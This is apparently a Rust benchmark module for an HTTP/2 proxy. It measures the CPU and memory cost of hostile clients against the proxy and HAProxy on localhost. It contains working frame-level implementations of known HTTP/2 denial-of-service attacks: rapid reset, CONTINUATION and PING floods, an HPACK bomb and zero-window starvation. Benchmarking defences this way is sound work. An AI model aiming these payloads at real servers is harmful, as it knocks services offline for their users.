//! `cargo xtask bench http --attacks`: what hostile clients of HTTP/2 cost a proxy, in CPU and in
//! memory, beside HAProxy.
//!
//! Ten connections of each attack send as fast as they can, and connect again when they are cut
//! off. Signal: CPU per frame that was sent (frames that lie in a buffer of the kernel when the
//! time is over count too), and how much the resident memory grew at most. Most of what HAProxy
//! and Evenkeel do is to refuse, so that what a frame costs is what an attacker can make of a line.

use std::fmt::Write as _;
use std::io::{ErrorKind, Read as _, Write as _};
use std::net::TcpStream;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::thread::sleep;
use std::time::{Duration, Instant};

use anyhow::Result;

use super::Running;
use super::proxies::LARGE_PATH;
use crate::bench::process::Server;

const CONNECTIONS: usize = 10;
const SECONDS: Duration = Duration::from_secs(2);
const LOOK: Duration = Duration::from_millis(20);

/// `GET /` of `a` over http, by the static table of HPACK.
const HEAD: &[u8] = b"\x82\x86\x84\x41\x01a";
const POST_HEAD: &[u8] = b"\x83\x86\x84\x41\x01a";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Some frames, and how many.
type Frames = (Vec<u8>, u64);

struct Attack {
    name: &'static str,
    /// What a connection begins with.
    first: fn() -> Frames,
    /// What it goes on with; it is told of the next stream. Without frames it only holds on.
    more: fn(&mut u32) -> Frames,
}

const ATTACKS: [Attack; 8] = [
    Attack { name: "rapid reset", first: none, more: resets },
    Attack {
        name: "CONTINUATION",
        first: || (frame(HEADERS, END_STREAM, 1, HEAD), 1),
        more: |_| {
            let line = b"\0\x03x-a\x20vvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvv";
            (frame(CONTINUATION, 0, 1, &line.repeat(100)), 1)
        },
    },
    Attack {
        name: "CONTINUATION, empty",
        first: || (frame(HEADERS, END_STREAM, 1, HEAD), 1),
        more: |_| (frame(CONTINUATION, 0, 1, b"").repeat(100), 100),
    },
    Attack {
        name: "SETTINGS",
        first: none,
        more: |_| (frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(100), 100),
    },
    Attack {
        name: "PING",
        first: none,
        more: |_| (frame(PING, 0, 0, b"8 bytes.").repeat(100), 100),
    },
    Attack {
        name: "DATA, empty",
        first: || (frame(HEADERS, END_HEADERS, 1, POST_HEAD), 1),
        more: |_| (frame(DATA, 0, 1, b"").repeat(100), 100),
    },
    Attack { name: "HPACK bomb", first: long_entry, more: bombs },
    Attack { name: "zero window", first: starved, more: |_| none() },
];

const fn none() -> Frames {
    (Vec::new(), 0)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

fn resets(stream: &mut u32) -> Frames {
    let mut bytes = Vec::new();
    for _ in 0..50 {
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, *stream, HEAD));
        bytes.extend(frame(RST_STREAM, 0, *stream, &8_u32.to_be_bytes()));
        *stream += 2;
    }
    (bytes, 100)
}

/// A request with a header of 3000 bytes, which goes to the dynamic table.
fn long_entry() -> Frames {
    let rest = 3000 - 127;
    let mut head = [HEAD, b"\x40\x01x\x7f"].concat();
    head.extend_from_slice(&[0x80 | (rest & 127) as u8, (rest >> 7) as u8]);
    head.extend_from_slice(&[b'v'; 3000]);
    (frame(HEADERS, END_HEADERS | END_STREAM, 1, &head), 1)
}

/// A request that names that header 12,000 times, with a byte each: 36 MB.
fn bombs(stream: &mut u32) -> Frames {
    *stream = (*stream).max(3);
    let head = [HEAD, &[0xbe; 12_000]].concat();
    let bytes = frame(HEADERS, END_HEADERS | END_STREAM, *stream, &head);
    *stream += 2;
    (bytes, 1)
}

/// Requests for large bodies of which nothing is taken.
fn starved() -> Frames {
    let mut bytes = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let path = [b"\x04", &[LARGE_PATH.len() as u8], LARGE_PATH.as_bytes()].concat();
    let head = [b"\x82\x86", &*path, b"\x41\x01a"].concat();
    for number in 0..100 {
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * number, &head));
    }
    (bytes, 101)
}

/// Attacks each proxy in each way, one after the other; the table.
pub(super) fn run(running: &mut [Running]) -> Result<String> {
    let mut text = format!(
        "hostile clients of HTTP/2: {CONNECTIONS} connections, {SECONDS:?} each\n\n\
         {:<22}{:<10}{:>12}{:>8}{:>10}{:>14}{:>16}\n",
        "attack", "proxy", "frames", "cut off", "CPU ms", "CPU ns/frame", "memory +KiB"
    );
    for attack in &ATTACKS {
        for one in running.iter_mut() {
            let cost = attack.cost(&one.server)?;
            one.server.check_alive()?;
            let per_frame = cost.cpu_ns / cost.frames.max(1);
            let _ = writeln!(
                text,
                "{:<22}{:<10}{:>12}{:>8}{:>10}{:>14}{:>16}",
                attack.name,
                one.proxy.name,
                cost.frames,
                cost.cut_off,
                cost.cpu_ns / 1_000_000,
                per_frame,
                cost.memory_kib
            );
        }
    }
    Ok(text)
}

struct Cost {
    frames: u64,
    cut_off: u64,
    cpu_ns: u64,
    memory_kib: u64,
}

impl Attack {
    fn cost(&self, server: &Server) -> Result<Cost> {
        let (cpu_ns, memory_kib) = (server.cpu_ns()?, server.memory_kib()?);
        let (frames, cut_off, mut peak) = (AtomicU64::new(0), AtomicU64::new(0), memory_kib);
        let until = Instant::now() + SECONDS;
        std::thread::scope(|scope| {
            for _ in 0..CONNECTIONS {
                scope.spawn(|| {
                    while Instant::now() < until {
                        // Errors are what an attacker expects.
                        let _ = self.connection(server.port(), until, &frames);
                        cut_off.fetch_add(u64::from(Instant::now() < until), Relaxed);
                    }
                });
            }
            while Instant::now() < until {
                peak = peak.max(server.memory_kib()?);
                sleep(LOOK);
            }
            anyhow::Ok(())
        })?;
        let memory_kib = peak - memory_kib;
        let (frames, cut_off) = (frames.into_inner(), cut_off.into_inner());
        Ok(Cost { frames, cut_off, cpu_ns: server.cpu_ns()? - cpu_ns, memory_kib })
    }

    /// One connection until it is cut off.
    fn connection(&self, port: u16, until: Instant, sent: &AtomicU64) -> std::io::Result<()> {
        let mut stream = TcpStream::connect(("127.0.0.1", port))?;
        stream.set_write_timeout(Some(Duration::from_millis(200)))?;
        stream.set_read_timeout(Some(Duration::from_millis(1)))?;
        stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
        stream.write_all(&frame(SETTINGS, 0, 0, b""))?;
        let (first, mut number) = ((self.first)(), 1);
        stream.write_all(&first.0)?;
        sent.fetch_add(first.1, Relaxed);
        let mut answer = vec![0; 65_536];
        while Instant::now() < until {
            let (bytes, count) = (self.more)(&mut number);
            if count == 0 {
                sleep(LOOK);
                continue;
            }
            stream.write_all(&bytes)?;
            sent.fetch_add(count, Relaxed);
            stream.set_nonblocking(true)?;
            match stream.read(&mut answer) {
                Ok(0) => return Ok(()),
                Err(error) if error.kind() != ErrorKind::WouldBlock => return Err(error),
                _ => stream.set_nonblocking(false)?,
            }
        }
        Ok(())
    }
}
